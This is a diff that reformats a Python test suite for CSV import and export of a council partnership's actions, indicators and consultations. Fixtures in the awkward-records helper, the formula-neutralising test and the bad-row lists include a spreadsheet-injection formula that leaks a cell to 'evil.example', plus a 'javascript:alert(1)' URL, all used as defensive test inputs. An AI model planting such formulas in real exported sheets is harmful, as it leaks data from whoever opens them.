@@ -8,23 +8,37 @@ import csv
 import io
 import re
 from contextlib import ExitStack
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 from zoneinfo import ZoneInfo
 
 import pytest
-from hypothesis import given, strategies as st
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import func
 from sqlmodel import Session, SQLModel, select
 
-from commands.demo import demo_partnership
-from commands.load_partnership import load
-from commands.spreadsheet_cells import (
-    CellProblem, SpreadsheetError, guard, read_day, read_number, read_text, unguard, write_number,
+from commands.imports.demo import demo_partnership
+from commands.imports.load_partnership import load
+from commands.spreadsheets.cells import (
+    CellProblem,
+    SpreadsheetError,
+    guard,
+    read_day,
+    read_number,
+    read_text,
+    unguard,
+    write_number,
 )
-from commands.spreadsheets import export_csv, import_csv
+from commands.spreadsheets.files import export_csv, import_csv
 from storage.db import make_engine, transaction, upgrade
 from storage.tables import (
-    Action, ActionUpdate, AuditEvent, Consultation, Indicator, IndicatorReading, Person,
+    Action,
+    ActionUpdate,
+    AuditEvent,
+    Consultation,
+    Indicator,
+    IndicatorReading,
+    Person,
 )
 from storage.writes import create
 from tests.conftest import throwaway_postgres
@@ -35,6 +49,7 @@ KINDS = ["actions", "indicators", "consultations"]
 
 
 # --- helpers ----------------------------------------------------------------------------------
+
 
 def load_demo(engine, skeleton: bool = False) -> None:
     """The demo partnership; `skeleton`: its boards, people and meetings, but no actions,
@@ -70,8 +85,10 @@ def without_refs(data: bytes) -> bytes:
 def everything(engine) -> dict[str, list]:
     """Every row of every table, to show that nothing at all was written."""
     with Session(engine) as session:
-        return {table.name: sorted(map(tuple, session.connection().execute(table.select()).all()), key=repr)
-                for table in SQLModel.metadata.sorted_tables}
+        return {
+            table.name: sorted(map(tuple, session.connection().execute(table.select()).all()), key=repr)
+            for table in SQLModel.metadata.sorted_tables
+        }
 
 
 def audit_count(engine) -> int:
@@ -89,22 +106,63 @@ def add_awkward_records(engine) -> None:
     decimal, a negative baseline, no board."""
     with transaction(engine) as session:
         bren = session.exec(select(Person).where(Person.name == "Bren McGowan")).one()
-        action = create(session, "U0BREN001", Action(
-            description='=HYPERLINK("http://evil.example/?leak="&A1,"Click for the agenda")', owner_text="the LSP Manager",
-            due_date=date(2027, 3, 1), status="in_progress"))
+        action = create(
+            session,
+            "U0BREN001",
+            Action(
+                description='=HYPERLINK("http://evil.example/?leak="&A1,"Click for the agenda")',
+                owner_text="the LSP Manager",
+                due_date=date(2027, 3, 1),
+                status="in_progress",
+            ),
+        )
         create(session, "U0BREN001", ActionUpdate(action_id=action.id, text="Asked the venue;\nwaiting to hear"))
         create(session, "U0BREN001", ActionUpdate(action_id=action.id, text="+44 1582 546000 rang back"))
-        create(session, "U0BREN001", Action(description="'=quoted already — Zoë’s café, £40", owner_id=bren.id,
-                                            status="done", completed_at=datetime(2026, 10, 30, 10, 32, tzinfo=timezone.utc)))
-        create(session, "U0BREN001", Action(description="@channel -  minus and at", status="open",
-                                            completed_at=datetime(2026, 3, 29, 0, 30, tzinfo=timezone.utc)))
-        create(session, "U0BREN001", Consultation(
-            title="-Older people's services, 2027–28", issuer="NHS Luton", url="https://example.org/c?a=1&b=2",
-            opens=date(2026, 10, 1), closes=date(2026, 12, 1), response_owner_text="all partners",
-            response_status="submitted", submitted_at=datetime(2026, 11, 1, 9, 15, tzinfo=timezone.utc),
-            note="Line one,\n\"quoted\" line two"))
-        create(session, "U0BREN001", Indicator(code="LI 99", title="A float, a negative, no board", direction="lower",
-                                               baseline=-2.5, partners=["Luton Borough Council, Housing", "Age UK"]))
+        create(
+            session,
+            "U0BREN001",
+            Action(
+                description="'=quoted already — Zoë’s café, £40",
+                owner_id=bren.id,
+                status="done",
+                completed_at=datetime(2026, 10, 30, 10, 32, tzinfo=UTC),
+            ),
+        )
+        create(
+            session,
+            "U0BREN001",
+            Action(
+                description="@channel -  minus and at",
+                status="open",
+                completed_at=datetime(2026, 3, 29, 0, 30, tzinfo=UTC),
+            ),
+        )
+        create(
+            session,
+            "U0BREN001",
+            Consultation(
+                title="-Older people's services, 2027–28",
+                issuer="NHS Luton",
+                url="https://example.org/c?a=1&b=2",
+                opens=date(2026, 10, 1),
+                closes=date(2026, 12, 1),
+                response_owner_text="all partners",
+                response_status="submitted",
+                submitted_at=datetime(2026, 11, 1, 9, 15, tzinfo=UTC),
+                note='Line one,\n"quoted" line two',
+            ),
+        )
+        create(
+            session,
+            "U0BREN001",
+            Indicator(
+                code="LI 99",
+                title="A float, a negative, no board",
+                direction="lower",
+                baseline=-2.5,
+                partners=["Luton Borough Council, Housing", "Age UK"],
+            ),
+        )
         indicator = session.exec(select(Indicator).where(Indicator.code == "LI 99")).one()
         create(session, "U0BREN001", IndicatorReading(indicator_id=indicator.id, period="2026/27 Q1", value=0.1 + 0.2))
 
@@ -150,6 +208,7 @@ def line_of(rows: list[list[str]], index: int) -> int:
 
 # --- round trips --------------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("kind", KINDS)
 def test_importing_an_export_into_the_same_database_writes_nothing(shared, kind):
     demo = shared
@@ -186,7 +245,7 @@ def test_export_neutralises_cells_excel_would_run_and_import_restores_them(share
     text_cells = [cell for row in rows for cell in row if cell and not re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)]
     assert not [cell for cell in text_cells if cell[0] in "=+-@\t\r"]
     cells = {cell for row in rows for cell in row}
-    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the agenda\")" in cells
+    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the agenda")' in cells
     assert "''=quoted already — Zoë’s café, £40" in cells  # its own apostrophe kept, one added
     assert "'@channel -  minus and at" in cells and "'-Older people's services, 2027–28" in cells
     assert "Asked the venue;\nwaiting to hear\n+44 1582 546000 rang back" in cells  # notes: one a line
@@ -212,6 +271,7 @@ def test_a_sheet_saved_back_by_excel_in_the_uk_changes_nothing(shared):
 
 # --- changes through a sheet ----------------------------------------------------------------------
 
+
 def _edit(rows: list[list[str]], ref: str, **cells) -> None:
     header = rows[0]
     row = next(r for r in rows if r[0] == ref)
@@ -223,28 +283,62 @@ def test_edited_actions_are_written_and_audited_with_the_file_as_actor(demo):
     rows = rows_of(sheet(demo, "actions"))
     target = next(r for r in rows[1:] if r[8] == "open")
     ref = target[0]
-    _edit(rows, ref, status="done", due="04/12/2026", updates=(target[10] + "\nSent 3 March").strip(),
-          completed="03/12/2026")
-    rows.append(["", "Book the Hat Factory for the June Forum", "the LSP Manager", "", "forum", "", "", "2027-01-15",
-                 "", "", "Provisional booking made"])
+    _edit(
+        rows,
+        ref,
+        status="done",
+        due="04/12/2026",
+        updates=(target[10] + "\nSent 3 March").strip(),
+        completed="03/12/2026",
+    )
+    rows.append(
+        [
+            "",
+            "Book the Hat Factory for the June Forum",
+            "the LSP Manager",
+            "",
+            "forum",
+            "",
+            "",
+            "2027-01-15",
+            "",
+            "",
+            "Provisional booking made",
+        ]
+    )
     summary = do_import(demo, to_bytes(rows), "actions.csv")
     action_id = int(ref[2:])
     with Session(demo) as session:
         action = session.get(Action, action_id)
         assert action.status == "done" and action.due_date == date(2026, 12, 4)
-        assert action.completed_at == datetime(2026, 12, 3, 17, tzinfo=timezone.utc)  # 5 pm GMT that day
-        events = session.exec(select(AuditEvent).where(AuditEvent.entity == "action", AuditEvent.entity_id == action_id,
-                                                       AuditEvent.actor == "import:actions.csv")).all()
+        assert action.completed_at == datetime(2026, 12, 3, 17, tzinfo=UTC)  # 5 pm GMT that day
+        events = session.exec(
+            select(AuditEvent).where(
+                AuditEvent.entity == "action",
+                AuditEvent.entity_id == action_id,
+                AuditEvent.actor == "import:actions.csv",
+            )
+        ).all()
         assert len(events) == 1 and events[0].verb == "update"
         assert events[0].before["status"] == "open" and events[0].after["status"] == "done"
         assert events[0].after["due_date"] == "2026-12-04"
-        assert [u.text for u in session.exec(select(ActionUpdate).where(ActionUpdate.action_id == action_id))][-1] \
-            == "Sent 3 March"
+        assert [u.text for u in session.exec(select(ActionUpdate).where(ActionUpdate.action_id == action_id))][
+            -1
+        ] == "Sent 3 March"
         new = session.exec(select(Action).where(Action.description == "Book the Hat Factory for the June Forum")).one()
-        assert (new.owner_id, new.owner_text, new.status, new.source) == (None, "the LSP Manager", "open", "import:actions.csv")
-        assert session.exec(select(ActionUpdate).where(ActionUpdate.action_id == new.id)).one().text == \
-            "Provisional booking made"
-    assert f"1 added ({new.ref})" in summary and f"1 changed ({ref})" in summary and "2 progress notes added." in summary
+        assert (new.owner_id, new.owner_text, new.status, new.source) == (
+            None,
+            "the LSP Manager",
+            "open",
+            "import:actions.csv",
+        )
+        assert (
+            session.exec(select(ActionUpdate).where(ActionUpdate.action_id == new.id)).one().text
+            == "Provisional booking made"
+        )
+    assert (
+        f"1 added ({new.ref})" in summary and f"1 changed ({ref})" in summary and "2 progress notes added." in summary
+    )
     # the same edited sheet again (its new row still without a ref) finds what it wrote: nothing more
     audits = audit_count(demo)
     assert do_import(demo, to_bytes(rows), "actions.csv").startswith("Nothing to change")
@@ -255,7 +349,7 @@ def test_a_done_action_with_no_day_is_done_now_and_a_new_owner_is_created_by_nam
     rows = rows_of(sheet(demo, "actions"))
     ref = next(r for r in rows[1:] if r[8] == "open")[0]
     _edit(rows, ref, status="Done", owner="Cllr Priya Shah")
-    moment = datetime.now(timezone.utc)
+    moment = datetime.now(UTC)
     summary = do_import(demo, to_bytes(rows), "actions.csv")
     with Session(demo) as session:
         action = session.get(Action, int(ref[2:]))
@@ -274,19 +368,26 @@ def test_an_indicator_sheet_records_readings_withdraws_emptied_ones_and_brings_t
     summary = do_import(demo, to_bytes(rows), "indicators.csv")
     assert "1 changed (NI 15)" in summary
     with Session(demo) as session:
-        reading = session.exec(select(IndicatorReading).where(IndicatorReading.period == withdrawn_period,
-                                                              IndicatorReading.indicator_id == Indicator.id,
-                                                              Indicator.code == "NI 15")).one()
+        reading = session.exec(
+            select(IndicatorReading).where(
+                IndicatorReading.period == withdrawn_period,
+                IndicatorReading.indicator_id == Indicator.id,
+                Indicator.code == "NI 15",
+            )
+        ).one()
         assert reading.archived_at is not None  # kept on record, not deleted
-        event = session.exec(select(AuditEvent).where(AuditEvent.entity == "indicator_reading",
-                                                      AuditEvent.entity_id == reading.id)).all()[-1]
+        event = session.exec(
+            select(AuditEvent).where(AuditEvent.entity == "indicator_reading", AuditEvent.entity_id == reading.id)
+        ).all()[-1]
         assert (event.verb, event.actor) == ("archive", "import:indicators.csv")
     # a sheet of just the code and one quarter's readings: recorded, and the withdrawn one back
     partial = to_bytes([["Code", f"Reading {withdrawn_period}", "Reading 2027/28 Q1"], ["ni15", "1.5", "0.98"]])
     assert "1 changed (NI 15)" in do_import(demo, partial, "quarter.csv")
     with Session(demo) as session:
-        readings = {r.period: (r.value, r.archived_at) for r in session.exec(
-            select(IndicatorReading).join(Indicator).where(Indicator.code == "NI 15")).all()}
+        readings = {
+            r.period: (r.value, r.archived_at)
+            for r in session.exec(select(IndicatorReading).join(Indicator).where(Indicator.code == "NI 15")).all()
+        }
     assert readings[withdrawn_period] == (1.5, None) and readings["2027/28 Q1"] == (0.98, None)
 
 
@@ -298,7 +399,7 @@ def test_consultations_sheet_marks_a_response_submitted(demo):
     with Session(demo) as session:
         consultation = session.get(Consultation, int(row[0][2:]))
         assert consultation.response_status == "submitted"
-        assert consultation.submitted_at == datetime(2026, 11, 2, 17, tzinfo=timezone.utc)
+        assert consultation.submitted_at == datetime(2026, 11, 2, 17, tzinfo=UTC)
 
 
 def test_a_dry_run_says_what_would_change_and_writes_nothing(shared):
@@ -312,6 +413,7 @@ def test_a_dry_run_says_what_would_change_and_writes_nothing(shared):
 
 
 # --- bad sheets ---------------------------------------------------------------------------------
+
 
 def _actions_with(demo, line: int, **cells) -> bytes:
     """The exported actions with a good change on line 2 (which must not be written either) and
@@ -330,7 +432,10 @@ BAD_ACTIONS = [
     ({"due": "next friday"}, "line 3, Due: “next friday” is not a date; write 2027-02-17 or 17/02/2027"),
     ({"board": "safe"}, "line 3, Board: unknown board “safe” (boards: forum, "),
     ({"status": "finished"}, "line 3, Status: status “finished” is not one of: open, in progress, done, dropped"),
-    ({"description": '=HYPERLINK("http://evil.example","x")'}, "line 3, Description: “=HYPERLINK(\"http://evil.example\",\"x\")” is a spreadsheet formula; give the value itself"),
+    (
+        {"description": '=HYPERLINK("http://evil.example","x")'},
+        'line 3, Description: “=HYPERLINK("http://evil.example","x")” is a spreadsheet formula; give the value itself',
+    ),
     ({"ref": "A-999"}, "line 3, Ref: A-999 is not an action in this database"),
     ({"ref": "C-1"}, "line 3, Ref: “C-1” is not a reference like A-12"),
     ({"meeting": "forum 2031-01-01"}, "line 3, Meeting: Luton Forum has no meeting on Wednesday 1 January 2031"),
@@ -339,7 +444,9 @@ BAD_ACTIONS = [
 ]
 
 
-@pytest.mark.parametrize("cells, message", BAD_ACTIONS, ids=[m.split(": ")[0] + " " + list(c)[0] for c, m in BAD_ACTIONS])
+@pytest.mark.parametrize(
+    "cells, message", BAD_ACTIONS, ids=[m.split(": ")[0] + " " + list(c)[0] for c, m in BAD_ACTIONS]
+)
 def test_a_bad_action_row_is_reported_by_line_and_column_and_nothing_is_written(shared, cells, message):
     demo = shared
     data = _actions_with(demo, 3, **cells)
@@ -368,29 +475,66 @@ def test_every_problem_is_listed_at_once_in_line_order(shared):
         do_import(shared, to_bytes(rows), "actions.csv")
     problems = str(refused.value).splitlines()
     lines = [line_of(rows, i) for i in (2, 4, 5)]
-    assert [p.split(":")[0] for p in problems] == [f"line {lines[0]}, Due", f"line {lines[1]}, Board", f"line {lines[2]}"]
-    assert problems[2].endswith(": 3 cells, but the header row has 11 columns (a comma in a cell that is not in quotes?)")
+    assert [p.split(":")[0] for p in problems] == [
+        f"line {lines[0]}, Due",
+        f"line {lines[1]}, Board",
+        f"line {lines[2]}",
+    ]
+    assert problems[2].endswith(
+        ": 3 cells, but the header row has 11 columns (a comma in a cell that is not in quotes?)"
+    )
     assert everything(shared) == before
 
 
 BAD_OTHERS = [
-    ("indicators", [["Code", "Title", "Direction", "Reading 2026/27 Q1"], ["NI 15", "x", "lower", "abc"]],
-     "line 2, Reading 2026/27 Q1: “abc” is not a number"),
-    ("indicators", [["Code", "Reading 2026/27 Q1"], ["NI 15", "75%"]], "line 2, Reading 2026/27 Q1: “75%”: give the number without %"),
-    ("indicators", [["Code", "Baseline period"], ["NI 15", "Sep-08"]], "line 2, Baseline period: “Sep-08” looks like a date"),
+    (
+        "indicators",
+        [["Code", "Title", "Direction", "Reading 2026/27 Q1"], ["NI 15", "x", "lower", "abc"]],
+        "line 2, Reading 2026/27 Q1: “abc” is not a number",
+    ),
+    (
+        "indicators",
+        [["Code", "Reading 2026/27 Q1"], ["NI 15", "75%"]],
+        "line 2, Reading 2026/27 Q1: “75%”: give the number without %",
+    ),
+    (
+        "indicators",
+        [["Code", "Baseline period"], ["NI 15", "Sep-08"]],
+        "line 2, Baseline period: “Sep-08” looks like a date",
+    ),
     ("indicators", [["Code", "Title"], ["NI 999", "New one"]], "line 2: say whether higher or lower is better"),
     ("indicators", [["Code", "Baseline"], ["NI 15", "1"], ["ni15", "2"]], "line 3, Code: NI 15 is also on line 2"),
     ("indicators", [["Code", "Illustrative"], ["NI 15", "maybe"]], "line 2, Illustrative: “maybe”: say yes or no"),
-    ("indicators", [["Code", "Target 2009"], ["NI 15", "1"]], "line 1: unknown column “Target 2009” in a sheet of indicators"),
-    ("consultations", [["Title", "URL"], ["New consultation", "javascript:alert(1)"]],
-     "line 2, URL: “javascript:alert(1)” is not a web address starting https://"),
-    ("consultations", [["Title", "Opens", "Closes"], ["New consultation", "2027-02-01", "2027-01-01"]],
-     "line 2, Closes: it closes before it opens"),
-    ("consultations", [["Title", "Status"], ["New consultation", "sent"]],
-     "line 2, Status: status “sent” is not one of: not started, drafting, circulated, signed off, submitted"),
-    ("consultations", [["Ref", "Status"], ["C-1", "drafting"]], "line 1: these columns could be actions or consultations"),
-    ("consultations", [["Title", "Colour"], ["x", ""]], "line 1: unknown column “Colour” in a sheet of consultations, "
-                                                       "whose columns are Ref, Title, Issuer, URL,"),
+    (
+        "indicators",
+        [["Code", "Target 2009"], ["NI 15", "1"]],
+        "line 1: unknown column “Target 2009” in a sheet of indicators",
+    ),
+    (
+        "consultations",
+        [["Title", "URL"], ["New consultation", "javascript:alert(1)"]],
+        "line 2, URL: “javascript:alert(1)” is not a web address starting https://",
+    ),
+    (
+        "consultations",
+        [["Title", "Opens", "Closes"], ["New consultation", "2027-02-01", "2027-01-01"]],
+        "line 2, Closes: it closes before it opens",
+    ),
+    (
+        "consultations",
+        [["Title", "Status"], ["New consultation", "sent"]],
+        "line 2, Status: status “sent” is not one of: not started, drafting, circulated, signed off, submitted",
+    ),
+    (
+        "consultations",
+        [["Ref", "Status"], ["C-1", "drafting"]],
+        "line 1: these columns could be actions or consultations",
+    ),
+    (
+        "consultations",
+        [["Title", "Colour"], ["x", ""]],
+        "line 1: unknown column “Colour” in a sheet of consultations, whose columns are Ref, Title, Issuer, URL,",
+    ),
     ("consultations", [["Title", "Title"], ["x", "y"]], "line 1: the column “Title” is there twice"),
     ("consultations", [["Name", "Value"], ["x", "1"]], "line 1: the first row should name the columns"),
 ]
@@ -406,12 +550,15 @@ def test_bad_indicator_and_consultation_sheets_are_refused_whole(shared, kind, r
     assert everything(demo) == before
 
 
-@pytest.mark.parametrize("data, message", [
-    (bytes(range(256)) * 10, "this is not a CSV text file"),
-    (b"\x89PNG\r\n\x1a\n" + b"\xff" * 40, "this is not a CSV text file"),
-    (b"", "the file is empty"),
-    (b'Description,Due\r\n"unterminated,2027-01-01\r\n', "not readable as CSV"),
-])
+@pytest.mark.parametrize(
+    "data, message",
+    [
+        (bytes(range(256)) * 10, "this is not a CSV text file"),
+        (b"\x89PNG\r\n\x1a\n" + b"\xff" * 40, "this is not a CSV text file"),
+        (b"", "the file is empty"),
+        (b'Description,Due\r\n"unterminated,2027-01-01\r\n', "not readable as CSV"),
+    ],
+)
 def test_files_that_are_not_spreadsheets_are_refused(shared, data, message):
     demo = shared
     before = everything(demo)
@@ -421,6 +568,7 @@ def test_files_that_are_not_spreadsheets_are_refused(shared, data, message):
 
 
 # --- cells ----------------------------------------------------------------------------------------
+
 
 @given(st.text())
 def test_guarded_text_never_starts_like_a_formula_and_comes_back_unchanged(text):
@@ -434,18 +582,30 @@ def test_numbers_are_written_so_they_read_back_exactly(value):
     assert read_number(write_number(value)) == value
 
 
-@pytest.mark.parametrize("text, day", [
-    ("2027-02-17", date(2027, 2, 17)), ("17/02/2027", date(2027, 2, 17)), ("3/4/2027", date(2027, 4, 3)),
-    (" 29/02/2028 ", date(2028, 2, 29)), ("", None),
-])
+@pytest.mark.parametrize(
+    "text, day",
+    [
+        ("2027-02-17", date(2027, 2, 17)),
+        ("17/02/2027", date(2027, 2, 17)),
+        ("3/4/2027", date(2027, 4, 3)),
+        (" 29/02/2028 ", date(2028, 2, 29)),
+        ("", None),
+    ],
+)
 def test_dates_are_read_iso_or_day_first(text, day):
     assert read_day(text) == day
 
 
-@pytest.mark.parametrize("text, problem", [
-    ("29/02/2027", "not a real date"), ("17/02/27", "write the year in full"), ("12/31/2027", "US order"),
-    ("17 Feb 2027", "is not a date"), ("2027-02-17 00:00", "is not a date"),
-])
+@pytest.mark.parametrize(
+    "text, problem",
+    [
+        ("29/02/2027", "not a real date"),
+        ("17/02/27", "write the year in full"),
+        ("12/31/2027", "US order"),
+        ("17 Feb 2027", "is not a date"),
+        ("2027-02-17 00:00", "is not a date"),
+    ],
+)
 def test_dates_that_are_not_plainly_one_day_are_refused(text, problem):
     with pytest.raises(CellProblem, match=problem):
         read_day(text)
